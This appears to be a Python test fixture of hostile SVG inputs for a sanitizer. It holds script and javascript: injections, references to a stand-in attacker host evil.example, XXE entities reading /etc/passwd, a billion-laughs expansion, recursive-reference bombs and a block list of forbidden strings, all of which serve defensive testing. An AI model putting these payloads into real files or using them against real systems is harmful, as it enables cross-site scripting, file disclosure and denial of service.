"""SVG files as people who mean harm write them, and what none of them may leave in what is kept."""

SVG, XLINK = "http://www.w3.org/2000/svg", "http://www.w3.org/1999/xlink"
DOT = '<circle cx="5" cy="5" r="4" fill="#c00"/>'


def drawing(inside=DOT, head='width="100" height="50" viewBox="0 0 100 50"', before=""):
    return f'{before}<svg xmlns="{SVG}" xmlns:xlink="{XLINK}" {head}>{inside}</svg>'.encode()


SCRIPTED = {
    "script": f"<script>alert(1)</script>{DOT}",
    "script in CDATA": f"<script><![CDATA[alert(1)]]></script>{DOT}",
    "script from elsewhere": f'<script xlink:href="https://evil.example/x.js"/>{DOT}',
    "script of another space": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>{DOT}',
    "onload": f'<g onload="alert(1)" onclick="alert(1)">{DOT}</g>',
    "ONLOAD": f'<g ONLOAD="alert(1)">{DOT}</g>',
    "javascript link": f'<a xlink:href="javascript:alert(1)" href="javascript:alert(1)">{DOT}</a>',
    "javascript use": f'<use xlink:href="javascript:alert(1)"/>{DOT}',
    "data use": f'<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>{DOT}',
    "use of a file": f'<use xlink:href="file:///etc/passwd#x"/>{DOT}',
    "use of another host": f'<use xlink:href="https://evil.example/a.svg#x"/>{DOT}',
    "foreign object": f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="https://evil.example"/>'
    f"</body></foreignObject>{DOT}",
    "photo in a foreign object": f'<foreignObject><image href="https://evil.example/x"/></foreignObject>{DOT}',
    "animation": f'<animate attributeName="href" values="javascript:alert(1)"/><set onbegin="alert(1)"/>{DOT}',
    "animated link": f'<a><animate attributeName="href" to="javascript:alert(1)"/>{DOT}</a>',
    "style import": f"<style>@import url(https://evil.example/x.css); .a{{fill:red}}</style>{DOT}",
    "style url": f"<style>circle{{fill:url(https://evil.example/x#a)}}</style>{DOT}",
    "style font": f"<style>@font-face{{font-family:x;src:url(https://evil.example/x)}}</style>{DOT}",
    "style expression": f"<style>circle{{fill:expression(alert(1));behavior:url(x.htc)}}</style>{DOT}",
    "escaped style url": r"<style>circle{fill:u\72l(https://evil.example/x)}</style>" + DOT,
    "style of its own": f'<g style="fill:url(https://evil.example/x);background:url(//evil.example)">{DOT}</g>',
    "data in a fill": f'<g fill="url(data:image/svg+xml,x#a)">{DOT}</g>',
    "filter": f'<filter id="f"><feImage href="https://evil.example/x"/></filter><g filter="url(#f)">{DOT}</g>',
    "pattern": f'<pattern id="p"><path d="M0 0h1"/></pattern><rect fill="url(#p)" width="9" height="9"/>{DOT}',
    "cursor": f'<g cursor="url(https://evil.example/x)">{DOT}</g>',
    "base": f'<g xml:base="https://evil.example/">{DOT}</g>',
    "handler": f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>{DOT}',
    "metadata": f"<metadata>Anna, evil.example</metadata><title>evil.example</title><desc>alert(1)</desc>{DOT}",
    "comment": f"<!-- evil.example alert(1) -->{DOT}",
    "instruction": f'<?xml-stylesheet href="https://evil.example/x.css"?>{DOT}',
    "name": f'<g id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">{DOT}</g>',
    "link in a text": f'<text><a href="https://evil.example">say</a><textPath href="#x">x</textPath></text>{DOT}',
    "repeated gradient": f'<linearGradient id="g" spreadMethod="repeat" x2="1e-9"><stop/></linearGradient>'
    f'<rect width="9" height="9" fill="url(#g)"/>{DOT}',
}
FORBIDDEN = (
    b"alert",
    b"script",
    b"evil",
    b"http",
    b"javascript",
    b"data:",
    b"file:",
    b"@",
    b"url(h",
    b"<style",
    b" on",
)
"""Nothing of it is in what is kept, but for the one name of its own space."""

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
ENTITIES = {
    "laughs": drawing("<text>&l9;</text>", before=f'<!DOCTYPE svg [<!ENTITY l0 "ha">{LAUGHS}]>'),
    "file": drawing("<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    "host": drawing("<text>&x;</text>", before='<!DOCTYPE svg [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>'),
    "parameter": drawing(before='<!DOCTYPE svg [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'),
    "attribute": drawing(before='<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'),
}


def doubled(times, inside='<use href="#a{0}"/>' * 2):
    """Each part draws the one before twice."""
    parts = "".join(f'<g id="a{n}">{inside.format(n - 1)}</g>' for n in range(1, times))
    return drawing(f'<g id="a0">{DOT}</g>{parts}')


INTRICATE = {
    "doubled": doubled(40),
    "clipped": doubled(
        40, '<clipPath id="c{0}"><use href="#a{0}"/><use href="#a{0}"/></clipPath><g clip-path="url(#c{0})"/>'
    ),
    "itself": drawing(f'<g id="a"><use href="#a"/>{DOT}</g>'),
    "each other": drawing(f'<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/>{DOT}</g>'),
    "masked by itself": drawing(f'<mask id="m"><g mask="url(#m)">{DOT}</g></mask><g mask="url(#m)">{DOT}</g>'),
    "masked by a style": drawing(f"<style>*{{mask:url(#m)}}</style><mask id='m'>{DOT}</mask>{DOT}"),
    "far": drawing("".join(f'<g id="a{n}"><use href="#a{n - 1}"/></g>' for n in range(1, 500)) + DOT),
    "deep": drawing("<g>" * 500 + DOT + "</g>" * 500),
    "many": drawing(DOT * 5000),
    "long": drawing(f'<path d="M0 0{"L1 1" * 60_000}"/>'),
    "rules": drawing(f"<style>{'*{fill:red}' * 2000}</style>{DOT}"),
}
